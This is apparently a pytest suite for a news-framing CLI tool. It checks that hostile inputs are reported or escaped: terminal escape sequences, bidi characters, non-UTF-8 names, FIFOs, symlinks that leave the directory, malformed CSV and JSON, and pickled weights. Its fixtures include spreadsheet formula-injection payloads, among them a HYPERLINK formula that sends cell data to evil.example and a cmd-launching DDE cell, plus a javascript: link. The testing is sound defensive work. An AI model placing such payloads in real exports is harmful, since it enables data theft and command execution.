"""Hostile inputs at the command line (issue 19, items 4-10): every input accounted for, nothing injected."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from typer.testing import CliRunner

import framing
from framing.cli import app
from framing.report import write_markdown_report
from framing.report.inert import one_line, spreadsheet_cell, visible
from tests.conftest import ROOT, seed_text

runner = CliRunner()
ESCAPES = "\x1b]0;HACKED\x07\x1b[2J"  # retitles the terminal, then clears it
BAD_NAME = os.fsdecode(b"bad\xffname.txt")  # a file name that is not UTF-8


def run(*args):
    return runner.invoke(app, [str(a) for a in args])


def _jsonl(path: Path, records) -> Path:
    path.write_text("".join(json.dumps(r) + "\n" for r in records), encoding="utf-8")
    return path


@pytest.fixture
def hostile(tmp_path):
    """One directory holding each hostile input of issue 19 beside a good article."""
    folder = tmp_path / "corpus"
    folder.mkdir()
    (folder / "good.txt").write_text(seed_text("003"), encoding="utf-8")
    (folder / BAD_NAME).write_text(seed_text("001"), encoding="utf-8")
    os.mkfifo(folder / "fifo.txt")
    (folder / "dangling.txt").symlink_to("nothere.txt")
    secret = tmp_path / "outside" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("Officials said the password was hunter2.", encoding="utf-8")
    (folder / "leak.txt").symlink_to(secret)
    (folder / "sub").mkdir()
    (folder / "header.csv").write_text("id,text\n", encoding="utf-8")
    (folder / "nul.csv").write_bytes(
        b"id,text\nn1,Putin said the task was done.\nn2,A row \x00 with a NUL byte.\nn3,Officials said no more.\n"
    )
    (folder / "quote.csv").write_text(
        'id,text\nq1,"Officials said the vote was fair, Reuters reported.\n'
        "q2,Putin said the task was done in Syria.\n"
        'q3,"Washington was skeptical," an official said.\n',
        encoding="utf-8",
    )
    (folder / "nested.jsonl").write_text("[" * 1000 + "]" * 1000 + "\n", encoding="utf-8")
    (folder / "nested.json").write_text("[" * 1000 + "]" * 1000, encoding="utf-8")
    (folder / "truncated.jsonl").write_text('{"id": "t", "text": "Putin said\n', encoding="utf-8")
    (folder / "nope.json").write_text('{"articles": "nope"}', encoding="utf-8")
    _jsonl(folder / "named.jsonl", [
        {"id": "evil", "outlet": ESCAPES + "Evil \u202eNews", "story": "s", "text": seed_text("002")},
        {"id": "formula", "outlet": '=HYPERLINK("http://evil.example/?"&A1,"x")', "story": "s",
         "text": seed_text("004")},
    ])
    (folder / "surrogate.jsonl").write_text(
        '{"id": "s", "outlet": "\\ud800", "text": "Putin said the task was done."}\n', encoding="utf-8"
    )
    return folder


def test_each_hostile_input_is_listed_with_its_reason_and_the_good_ones_scored(hostile):
    result = run("score", hostile, "--format", "json")
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    document = json.loads(result.stdout)
    scored = sorted(Path(a["source"]).name for a in document["articles"])
    assert scored == ["bad\\xffname.txt", "good.txt", "named.jsonl:1", "named.jsonl:2", "nul.csv:2", "nul.csv:4"]
    errors = {Path(e["source"]).name: e["reason"] for e in document["errors"]}
    assert errors == {
        "dangling.txt": "is a broken symbolic link (to 'nothere.txt', which does not exist)",
        "fifo.txt": "is a named pipe (FIFO), not a file; framing reads regular files (pipe a stream to -)",
        "header.csv": "has a header row but no data rows",
        "leak.txt": f"is a symbolic link to '{hostile.parent / 'outside' / 'secret.txt'}', outside the directory; "
                    "not followed (name the file itself, or use --follow-links, to read it)",
        "nested.json": "malformed JSON: arrays or objects nested too deeply (about a thousand levels) to read",
        "nested.jsonl:1": "malformed JSON: arrays or objects nested too deeply (about a thousand levels) to read",
        "nope.json": "'articles' must be a list of objects with a 'text' field, not a string",
        "nul.csv:3": "row holds a NUL byte (binary data), not text",
        "quote.csv:2": "malformed CSV row: ',' expected after '\"' (a quotation mark inside a field must be doubled)",
        "quote.csv:3": "not read: this line is inside the malformed row that starts at line 2 "
                       "(fix that row's quotation marks to read it)",
        "quote.csv:4": "not read: this line is inside the malformed row that starts at line 2 "
                       "(fix that row's quotation marks to read it)",
        "sub": "is a directory; a directory is read one level deep (name it on the command line to read it)",
        "surrogate.jsonl:1": "'outlet' holds invalid Unicode (a lone surrogate such as \\ud800)",
        "truncated.jsonl:1": "malformed JSON: Invalid control character at column 32",
    }
    # every entry of the directory is accounted for
    names = {p.name for p in hostile.iterdir()}
    accounted = {name.split(":")[0] for name in [*scored, *errors]}
    assert accounted == {n if n != BAD_NAME else "bad\\xffname.txt" for n in names}
    assert "\x1b" not in result.stderr and "\u202e" not in result.stderr


def test_links_that_leave_the_directory_are_read_when_asked(hostile):
    refused = framing.load_corpus(hostile / "leak.txt").articles  # named: read
    assert [a.id for a in refused] == ["leak"]
    default = {Path(e.source).name for e in framing.load_corpus(hostile).errors}
    followed = framing.load_corpus(hostile, follow_links=True)
    assert "leak.txt" in default
    assert "leak.txt" not in {Path(e.source).name for e in followed.errors}
    assert "hunter2" in next(a.text for a in followed.articles if a.id == "leak")
    result = run("score", hostile, "--follow-links", "--format", "json")
    assert any(a["id"] == "leak" for a in json.loads(result.stdout)["articles"])
    report = hostile.parent / "r.md"
    assert run("compare", hostile, "--follow-links", "-o", report).exit_code == 0
    assert f"framing compare {hostile.name} --follow-links --output r.md" in report.read_text(encoding="utf-8")


def test_a_fifo_named_on_the_command_line_is_an_error_not_a_hang(tmp_path):
    os.mkfifo(tmp_path / "pipe.txt")
    (tmp_path / "good.txt").write_text(seed_text("003"), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "framing", "score", "pipe.txt", "good.txt", "--format", "json"],
        cwd=tmp_path, capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 0
    (error,) = json.loads(result.stdout)["errors"]
    assert error == {"source": "pipe.txt", "reason": "is a named pipe (FIFO), not a file; framing reads "
                                                     "regular files (pipe a stream to -)"}


def test_a_file_name_that_is_not_utf8_is_shown_with_escapes_everywhere(tmp_path):
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / BAD_NAME).write_text(seed_text("003"), encoding="utf-8")
    (folder / "good.txt").write_text(seed_text("001"), encoding="utf-8")
    report = tmp_path / "r.md"
    result = run("compare", folder, "-o", report)
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    # the report's input table names it by its file name (compare.shown_source reads "\" as a
    # Windows separator, so the escaped byte's backslash cuts the name there)
    assert "xffname.txt" in report.read_text(encoding="utf-8")
    document = json.loads(run("score", folder, "--format", "json").stdout)
    assert sorted(Path(a["source"]).name for a in document["articles"]) == ["bad\\xffname.txt", "good.txt"]
    assert {a["id"] for a in document["articles"]} == {"bad\\xffname", "good"}
    table = run("score", folder / BAD_NAME)
    assert table.exit_code == 0 and "bad\\xffname.txt" in table.stdout
    rows = list(csv.reader(io.StringIO(run("score", folder, "--format", "csv").stdout)))
    assert rows[1][0].endswith("bad\\xffname.txt")


def test_escape_sequences_in_names_are_shown_not_obeyed(hostile):
    named = hostile / "named.jsonl"
    shown = "\\x1b]0;HACKED\\x07\\x1b[2JEvil \\u202eNews"
    in_markdown = "\\x1b\\]0;HACKED\\x07\\x1b\\[2JEvil \\u202eNews"  # brackets escaped for Markdown too
    for args, expected in ((("score", named), shown), (("score", named, "--explain", "attribution"), shown),
                           (("score", named, "--explain", "index.skepticism"), shown),
                           (("compare", named), in_markdown)):
        result = run(*args)
        assert result.exit_code == 0, result.output
        assert "\x1b" not in result.output and "\x07" not in result.output and "\u202e" not in result.output
        assert expected in result.stdout
    # stderr too: a warning names the article's source, a skipped input its file name
    (hostile / ("x\x1b[2J\x1b]0;pwned\x07.pdf")).write_bytes(b"%PDF")
    result = run("score", hostile / "good.txt", hostile / "x\x1b[2J\x1b]0;pwned\x07.pdf")
    assert "\x1b" not in result.stderr and "skipped " in result.stderr
    assert "x\\x1b[2J\\x1b]0;pwned\\x07.pdf: is not a supported format" in result.stderr


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tmp_path):
    corpus = _jsonl(tmp_path / "c.jsonl", [
        {"id": "a", "outlet": '=HYPERLINK("http://evil.example/?"&A1,"x")', "text": seed_text("002")},
        {"id": "b", "outlet": "@SUM(1+1)*cmd|' /C calc'!A0", "story": "+cmd", "text": seed_text("003")},
        {"id": "-2+3", "outlet": "\uff1dcmd", "date": "-5", "text": seed_text("004")},
    ])
    rows = list(csv.DictReader(io.StringIO(run("score", corpus, "--format", "csv").stdout)))
    assert [r["outlet"] for r in rows] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"x")', "'@SUM(1+1)*cmd|' /C calc'!A0", "'\uff1dcmd"]
    assert [r["story"] for r in rows][1] == "'+cmd"
    assert (rows[2]["id"], rows[2]["date"]) == ("'-2+3", "-5")  # a number stays a number
    # the Reuters seed reads as mildly negative: its tone is a negative number, left as it is
    assert any(r["tone.mean_compound"].startswith("-") for r in rows)


@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+1", "+1"), ("-0.25", "-0.25"), ("-", "'-"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r@x", "'\r@x"), ("  =1+1", "'  =1+1"), ("\uff20x", "'\uff20x"), ("-inf", "'-inf"), ("Reuters", "Reuters"),
    ("", ""), ("a=b", "a=b"),
])
def test_spreadsheet_cell(cell, shown):
    assert spreadsheet_cell(cell) == shown


def test_visible_escapes_controls_bidi_and_surrogates_but_not_text():
    assert visible("a\x1b[2Jb\x07\x7f\x85\u202e\u2066\ud800\n\t") == (
        "a\\x1b[2Jb\\x07\\x7f\\x85\\u202e\\u2066\\ud800\\x0a\\x09")
    assert visible("Café – «Путин» 北京 \u00a0") == "Café – «Путин» 北京 \u00a0"
    assert one_line("two\n\n lines\u00a0and\x1b") == "two lines and\\x1b"


def test_a_missing_output_folder_is_an_error_before_scoring_and_nothing_is_made(tmp_path):
    target = tmp_path / "nonexistent" / "dir" / "r.md"
    result = run("compare", ROOT / "seeds", "-o", target)
    assert result.exit_code == 1
    assert result.stderr.strip() == (f"error: cannot write {target}: its folder {target.parent} does not exist; "
                                      "create it first or choose another path")
    assert not (tmp_path / "nonexistent").exists()
    assert "warning" not in result.stderr  # refused before any article was read


def test_the_library_report_writer_refuses_a_missing_folder_and_makes_only_the_charts_folder_and_appendix(tmp_path):
    comparison = framing.compare([framing.analyze(framing.Article(text=seed_text("003"), source="a.txt"))])
    with pytest.raises(framing.OutputError, match="does not exist; create it first"):
        write_markdown_report(comparison, tmp_path / "missing" / "r.md", command="c")
    assert list(tmp_path.iterdir()) == []
    write_markdown_report(comparison, tmp_path / "r.md", command="c")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["r.md", "r_appendix.md", "r_charts"]


def test_html_contents_links_point_at_headings_that_exist(tmp_path):
    corpus = _jsonl(tmp_path / "c.jsonl", [
        {"id": "a", "outlet": "Reuters", "story": "Putin & *Syria* (part 2): \x1b[2J <b>", "text": seed_text("000")},
        {"id": "b", "outlet": "The Guardian", "story": "Putin & *Syria* (part 2): \x1b[2J <b>", "text": seed_text("001")},
        {"id": "c", "outlet": "CBC", "story": "Ukraine | war [x](javascript:y)", "text": seed_text("002")},
    ])
    result = run("compare", corpus, "--format", "html", "-o", tmp_path / "r.html")
    assert result.exit_code == 0, result.output
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    links = re.findall(r'href="#([^"]+)"', page)
    ids = set(re.findall(r' id="([^"]+)"', page))
    assert len(links) == 4 and set(links) <= ids
    assert "story-putin--syria-part-2-x1b2j-b" in links


def test_a_weights_file_that_is_not_an_archive_gets_no_advice_to_unpickle(tmp_path):
    card = json.loads((ROOT / "models" / "sentence-bias.json").read_text(encoding="utf-8"))
    (tmp_path / "m.json").write_text(json.dumps(card), encoding="utf-8")
    # a pickle (protocol 2) of the list [1, 2], written as bytes so no pickle is made here
    (tmp_path / card["weights"]["file"]).write_bytes(b"\x80\x02]q\x00(K\x01K\x02e.")
    result = subprocess.run(  # a fresh process: the message is rendered by the entry point, framing.cli.main
        [sys.executable, "-m", "framing", "score", "seeds/003_f272ea3b034b08e0.txt", "--model", tmp_path / "m.json"],
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert "allow_pickle" not in result.stderr and "pickle.load" not in result.stderr
    assert "it holds pickled data, which framing never loads" in result.stderr
